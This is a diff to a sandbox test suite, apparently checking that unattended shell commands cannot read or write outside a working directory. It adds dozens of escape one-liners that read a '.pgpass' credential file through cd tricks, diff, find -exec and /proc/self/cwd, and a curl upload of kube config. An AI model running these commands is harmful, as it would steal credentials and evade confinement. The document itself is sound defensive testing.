@@ -43,6 +43,9 @@ def _prepare(one: Person) -> None:
     one.write("d/plain", "x")
     (one.work / "0").symlink_to(key)
     (one.work / "10").symlink_to(key)
+    one.write(".pgpass", "x\n")
+    (one.work / "up").mkdir()
+    (one.work / "up/up").symlink_to("..")
 
 
 READS = [
@@ -109,6 +112,38 @@ READS = [
     "c=./evil; (c=wc); $c a.txt",
     "o=-Kevil; (o=-s); curl $o",
     "v=LD_PRELOAD=./e.so; false && v=x=1; env $v ls",
+    *(
+        f"{left}; cat ../.pgpass"
+        for left in (
+            "cd d extra",
+            "cd d < missing",
+            "cd d | true",
+            "cd d & wait",
+            "test -d zz && cd d",
+            "if false; then cd d; fi",
+            "{ cd d; } | cat",
+            "mv d e; cd d",
+            "cd a.txt",
+            "cd zz",
+            "cd -P d x",
+            "timeout 1 cd d",
+            "cd s?b s*",
+        )
+    ),
+    "for OLDPWD in ..; do cd -; done; cat .pgpass",
+    "diff .pgpass ..",
+    "diff --to-file=.. .pgpass",
+    "diff -rN d ..",
+    "diff -rN d ../.config",
+    "for f in */..; do diff .pgpass $f; done",
+    "find . -maxdepth 1 -name .pgpass -exec cat .{} \\;",
+    "find . -maxdepth 0 -exec grep -rsh NEEDLE {}. \\;",
+    "find d -name plain -execdir cat ../../.pgpass \\;",
+    "curl -s -T '../.kub{e,f}/config' http://127.0.0.1:9/",
+    'curl -s "file://$PWD/{..,d}/.pgpass"',
+    "ln up/up up2 && cat up2/.pgpass",
+    "cp -al up/up up2; grep -rsh NEEDLE up2/",
+    "cat /proc/self/cwd/../.pgpass",
 ]
 WRITES = [
     "cp a.txt l/../.bash_login",
@@ -163,7 +198,7 @@ def test_an_unattended_turn_writes_nothing_outside(person: Person, command: str)
     ],
 )
 def test_everyday_lines_run(person: Person, command: str) -> None:
-    for name in ("l", "auto", "ls", "wc", "0", "10"):
+    for name in ("l", "auto", "ls", "wc", "0", "10", "up/up"):
         (person.work / name).unlink()
     done = person.run(command, attended=False)
     assert done.ok, done.content
